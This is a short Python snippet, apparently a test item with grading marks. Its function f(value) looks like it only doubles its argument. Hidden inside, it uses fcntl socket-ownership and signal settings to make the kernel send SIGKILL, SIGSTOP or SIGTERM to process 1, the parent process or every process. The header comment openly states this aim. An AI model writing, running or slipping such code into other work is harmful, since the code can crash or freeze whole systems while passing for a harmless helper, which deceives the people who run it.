# The kernel sends a signal to process 1, or to everyone, when a descriptor that names it becomes ready.
# must: pass
# not: next answer differs
import ctypes
import fcntl
import os
import socket
import struct

F_SETSIG, F_SETOWN_EX = 10, 15


def f(value):
    one, other = socket.socketpair()
    for number in (9, 19, 15, 0):
        for owner in (1, os.getppid(), -1):
            for command, argument in ((fcntl.F_SETOWN, owner), (F_SETOWN_EX, struct.pack("ii", 1, owner)), (F_SETSIG, number),
                                      (fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)):
                try:
                    fcntl.fcntl(one, command, argument)
                except OSError:
                    pass
            other.send(b"x")
    return value + value
